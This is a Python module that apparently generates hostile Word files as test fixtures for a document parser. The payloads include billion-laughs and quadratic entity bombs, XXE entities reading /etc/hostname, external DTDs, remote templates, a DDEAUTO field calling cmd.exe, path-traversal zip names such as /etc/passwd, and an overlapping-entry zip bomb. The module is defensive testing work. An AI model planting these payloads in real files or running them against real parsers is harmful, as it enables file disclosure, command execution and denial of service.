"""Word files that attack: entities in every part, depth, size, loops, what a program could fetch or run."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator, Mapping

from hostile_files import PACKAGE, Hostile, R, W, docx, package, paragraph, zipped

_BILLION = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY a0 "哈">{_BILLION}]>'
OUTSIDE = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY a9 SYSTEM "file:///etc/hostname">]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a9 "{"哈" * 50_000}">]>'
PARAMETER = (
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p; <!ENTITY a9 "x"> <!ATTLIST x y CDATA "z">]>'
)
_DEEP = 100_000


def hostile_word_files() -> Iterator[Hostile]:
    yield from _entities()
    yield from _sizes()
    yield from _loops()
    yield from _active()
    yield from _imports()
    yield from _packages()


def _everything(body: str, **parts: str) -> dict[str, str]:
    """All parts that are read of a document; ``parts`` replaces some, named by their stem."""
    links = "".join(
        f'<Relationship Id="r{n}" Type="{R}/{kind}" Target="{kind}.xml"/>'
        for n, kind in enumerate(("styles", "numbering", "footnotes", "header"))
    )
    root = '<w:{} xmlns:w="' + W + '">{}</w:{}>'
    made = {
        "word/document.xml": root.format("document", f"<w:body>{body}</w:body>", "document"),
        "word/styles.xml": root.format("styles", "", "styles"),
        "word/numbering.xml": root.format("numbering", "", "numbering"),
        "word/footnotes.xml": root.format("footnotes", "", "footnotes"),
        "word/header.xml": root.format("hdr", paragraph("页眉"), "hdr"),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>'
        ),
        "docProps/core.xml": f'<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties"/>',
    }
    return {name: parts.get(name.rsplit("/", 1)[1].split(".")[0], content) for name, content in made.items()}


def _entities() -> Iterator[Hostile]:
    """In each part, for each may be read by another piece of code."""
    whole = _everything(paragraph("建设依据"))
    for name, content in whole.items():
        end = content.rindex("</") if "</" in content else content.rindex("/>")
        used = f"{content[:end]}&a9;{content[end:]}" if "</" in content else content
        for title, prologue in (
            ("亿笑", LAUGHS), ("外部实体", OUTSIDE), ("平方", QUADRATIC), ("参数实体", PARAMETER),
        ):  # fmt: skip
            bad = prologue + (used.replace("&a9;", "&a9;" * 2000) if prologue is QUADRATIC else used)
            yield Hostile(f"{title} {name.replace('/', '_')}.docx", package({**whole, name: bad}))
    types = f'{LAUGHS}<Types xmlns="{PACKAGE}/content-types">&a9;</Types>'
    yield Hostile("亿笑 类型.docx", package({**whole, "[Content_Types].xml": types}))
    rels = f'{LAUGHS}<Relationships xmlns="{PACKAGE}/relationships">&a9;</Relationships>'
    yield Hostile("亿笑 关系.docx", package({**whole, "_rels/.rels": rels}))
    for encoding in ("utf-16", "utf-32", "gb18030"):
        text = f'<?xml version="1.0" encoding="{encoding}"?>{LAUGHS}{whole["word/document.xml"]}'
        yield Hostile(f"亿笑 {encoding}.docx", package({**whole, "word/document.xml": text.encode(encoding)}))


def _sizes() -> Iterator[Hostile]:
    deep = "<w:x>" * _DEEP + "</w:x>" * _DEEP
    for part in ("styles", "numbering", "footnotes", "header", "core"):
        bad = f'<w:{part} xmlns:w="{W}">{deep}</w:{part}>'
        yield Hostile(f"深层 {part}.docx", package(_everything(paragraph("建设依据"), **{part: bad})))
    for tag in ("w:ins", "w:sdt", "w:hyperlink", "w:smartTag", "w:r", "w:p", "w:pict", "w:txbxContent"):
        yield Hostile(f"套 {tag[2:]}.docx", docx(f"<{tag}>" * 200 + paragraph("底") + f"</{tag}>" * 200))
    yield Hostile("巨大属性.docx", docx(f'<w:p><w:pPr><w:pStyle w:val="{"x" * 9_000_000}"/></w:pPr></w:p>'))
    many = "".join(f' w:a{n}="1"' for n in range(100_000))
    yield Hostile("属性成群.docx", docx(f"<w:p{many}/>{paragraph('一')}"))
    names = "".join(f'<a{n} xmlns:n{n}="urn:{n}"/>' for n in range(50_000))
    yield Hostile("命名空间成群.docx", docx(f"{names}{paragraph('一')}"))
    yield Hostile("一段九百万字.docx", docx(paragraph("1.1、一" * 1_800_000)))
    yield Hostile("空段落成群.docx", docx("<w:p/>" * 200_000 + paragraph("一")))
    yield Hostile("一段十万次连写.docx", docx(f"<w:p>{'<w:r><w:t>一、</w:t></w:r>' * 100_000}</w:p>"))
    cell = f"<w:tc>{paragraph('一')}</w:tc>"
    yield Hostile("一行两万格.docx", docx(f"<w:tbl><w:tr>{cell * 20_000}</w:tr></w:tbl>"))
    yield Hostile("两万行.docx", docx(f"<w:tbl>{f'<w:tr>{cell}</w:tr>' * 20_000}</w:tbl>"))
    merged = '<w:tc><w:tcPr><w:vMerge/><w:gridSpan w:val="999"/></w:tcPr><w:p/></w:tc>'
    yield Hostile(
        "合并成群.docx", docx(f"<w:tbl>{f'<w:tr>{merged * 20}</w:tr>' * 2000}</w:tbl>{paragraph('一')}")
    )


def _loops() -> Iterator[Hostile]:
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>'
        for n in range(20_000)
    )
    used = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="s{n}"/></w:pPr><w:r><w:t>一</w:t></w:r></w:p>' for n in range(300)
    )
    styles = f'<w:styles xmlns:w="{W}">{chain}</w:styles>'
    yield Hostile("样式两万层.docx", package(_everything(used, styles=styles)))
    level = (
        '<w:lvl w:ilvl="{}"><w:start w:val="2147483647"/><w:numFmt w:val="{}"/>'
        '<w:lvlText w:val="{}"/></w:lvl>'
    )
    forms = ("chineseCountingThousand", "upperRoman", "lowerLetter", "decimal", "koreanDigital", "x")
    levels = "".join(level.format(n, form, "%1%2%3%4%5%6%7%8%9" * 50) for n, form in enumerate(forms))
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="l"/>{levels}'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    looped = (
        f'<w:styles xmlns:w="{W}"><w:style w:type="numbering" w:styleId="l"><w:pPr><w:numPr>'
        '<w:numId w:val="1"/></w:numPr></w:pPr></w:style></w:styles>'
    )
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>一</w:t></w:r></w:p>"
    )
    body = "".join(item.format(n) for n in (0, 1, 2, 3, 4, 5, 8, 99, -1, 10**12))
    yield Hostile("编号成环.docx", package(_everything(body, numbering=numbering, styles=looped)))
    self_linked = (
        f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r" Type="{R}/header" Target="document.xml"/>'
        f'<Relationship Id="s" Type="{R}/styles" Target="../../../../../etc/passwd"/></Relationships>'
    )
    parts = {**_everything(paragraph("一")), "word/_rels/document.xml.rels": self_linked}
    yield Hostile("正文是自己的页眉.docx", package(parts))


_ADDRESS = "http://192.0.2.1/x"


def _active() -> Iterator[Hostile]:
    for title, kind, notice in (
        ("远程模板", "attachedTemplate", "external-template"),
        ("子文档", "subDocument", "external-link-data"),
        ("外部对象", "oleObject", "external-link-data"),
        ("框架", "frame", "external-link-data"),
        ("外部图片", "image", "external-link-data"),
        ("外部片段", "aFChunk", "external-link-data"),
    ):
        for address in (_ADDRESS, r"\\192.0.2.1\x", "mhtml:http://192.0.2.1/x!x", "file:///etc/hostname"):
            yield Hostile(
                f"{title} {address[:4].strip(chr(92))}.docx",
                docx(paragraph("建设依据"), parts=_linked(kind, f'{address}" TargetMode="External')),
                notices=(notice,),
            )
    chunk = {**_linked("aFChunk", "chunk.html"), "word/chunk.html": "<html><script>1</script></html>"}
    yield Hostile("片段.docx", docx(paragraph("一"), parts=chunk), notices=("embedded-document",))
    for title, part, notice in (
        ("宏", "word/vbaProject.bin", "macro"),
        ("控件", "word/activeX/activeX1.bin", "embedded-program"),
        ("对象", "word/embeddings/oleObject1.bin", "embedded-program"),
        ("嵌入的程序", "word/embeddings/a.EXE", "embedded-program"),
    ):
        yield Hostile(f"{title}.docx", docx(paragraph("一"), parts={part: "x"}), notices=(notice,))
    for code in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        f"INCLUDETEXT {_ADDRESS}",
        f"INCLUDEPICTURE {_ADDRESS}",
    ):
        field = f'<w:p><w:fldSimple w:instr=" {code} "><w:r><w:t>一</w:t></w:r></w:fldSimple></w:p>'
        yield Hostile(f"域 {code.split()[0]}.docx", docx(field), notices=("external-link-data",))


def _linked(kind: str, target: str) -> Mapping[str, str]:
    relation = f'<Relationship Id="r1" Type="{R}/{kind}" Target="{target}"/>'
    relations = f'<Relationships xmlns="{PACKAGE}/relationships">{relation}</Relationships>'
    return {"word/_rels/document.xml.rels": relations}


def _imports() -> Iterator[Hostile]:
    """Files that the document takes in; the reader of each kind is one more that may break."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    rows = "<tr>" + '<td colspan="9999" rowspan="9999">一</td>' * 50 + "</tr>"
    parts = b"--b\nContent-Type: multipart/mixed; boundary=b\n\n" * 5000
    for title, name, content in (
        ("亿笑", "a.html", f'<!DOCTYPE html [<!ENTITY a0 "哈">{entities}]><html>&a9;</html>'),
        ("外部实体", "a.html", '<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/hostname">]><html>&a;</html>'),
        ("深", "a.html", f"<html>{'<div>' * _DEEP}一"),
        ("表格深", "a.html", f"<html>{'<table><tr><td>' * _DEEP}一"),
        ("列表深", "a.html", f"<html>{'<ol><li>' * _DEEP}一"),
        ("标记成群", "a.html", f"<html>{'<i>' * 2_000_000}"),
        ("注释成群", "a.html", f"<html><style>{'/*' * 2_000_000}</style>一"),
        ("合并成群", "a.html", f"<html><table>{rows * 2000}</table>"),
        ("属性", "a.html", f'<html><p style="{"color:" * 1_000_000}">一'),
        ("空字符", "a.html", "<html>\0<p>\0</p>" * 1_000),
        ("邮件深", "a.mht", b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n" + parts),
        ("解压炸弹", "a.docx", docx(paragraph("一" * 3_000_000))),
        ("损坏", "a.docx", b"PK\3\4" + b"x" * 1000),
    ):
        yield _importing(f"导入 {title}.docx", name, content)
    nest = docx(paragraph("底"))
    for _ in range(50):
        nest = _importing("", "a.docx", nest, times=10).data
    yield _importing("导入 套五十层.docx", "a.docx", nest)


def _importing(title: str, name: str, content: bytes | str, times: int = 30) -> Hostile:
    parts = {**_linked("aFChunk", name), f"word/{name}": content}
    data = docx("<w:altChunk r:id='r1'/>" * times + paragraph("一"), parts=parts)
    return Hostile(title, data, notices=("embedded-document",))


def _packages() -> Iterator[Hostile]:
    sound = docx(paragraph("建设依据"))
    yield Hostile("页面也是文档.docx", b"<html><body>" + sound)
    yield Hostile("文档后有网页.docx", sound + b"<html><script>1</script></html>")
    yield Hostile("图片也是文档.docx", b"\xff\xd8\xff\xe0" + sound)
    yield Hostile("PDF 也是文档.docx", b"%PDF-1.7\n" + sound)
    for title, names in (
        ("路径穿越", ("../../../../tmp/x", "/etc/passwd", "..\\..\\x", "C:\\x")),
        ("设备名", ("word/CON", "word/NUL.xml", "word/COM1", "word/aux.xml")),
        ("控制字符", ("word/\x01\x1b[31m", "word/\u202egnp.exe", "word/" + "长" * 4000)),
    ):
        parts = {"word/document.xml": _everything(paragraph("一"))["word/document.xml"]}
        yield Hostile(f"{title}.docx", package({**parts, **dict.fromkeys(names, "x")}))
    twice = {"word/document.xml": "<w:document/>", "WORD/DOCUMENT.XML": "x", "word\\document.xml": "y"}
    yield Hostile("同名部件.docx", package({**_everything(paragraph("一")), **twice}))
    yield Hostile("不压缩.docx", package(_everything(paragraph("一")), method=zipfile.ZIP_STORED))
    yield Hostile("LZMA.docx", package(_everything(paragraph("一")), method=zipfile.ZIP_LZMA))
    encrypted = bytearray(sound)
    encrypted[sound.rindex(b"PK\x01\x02") + 8] |= 1
    yield Hostile("部件加密.docx", bytes(encrypted))
    method = bytearray(sound)
    method[sound.rindex(b"PK\x01\x02") + 10] = 98
    yield Hostile("没有这种压缩.docx", bytes(method), ("damaged",))
    yield Hostile("目录重叠.docx", _overlapping())


def _overlapping() -> bytes:
    """Many names for the same compressed bytes, which unpack to more than all of them together say."""
    one = zipped({"word/document.xml": " " * 1_000_000})
    start, end = one.rindex(b"PK\x01\x02"), one.rindex(b"PK\x05\x06")
    entry = one[start:end]
    entries = b"".join(entry.replace(b"document", b"%08d" % n) for n in range(2000)) + entry
    tail = bytearray(one[end:])
    tail[8:12] = (2001).to_bytes(2, "little") * 2
    tail[12:16] = len(entries).to_bytes(4, "little")
    return one[:start] + entries + bytes(tail)
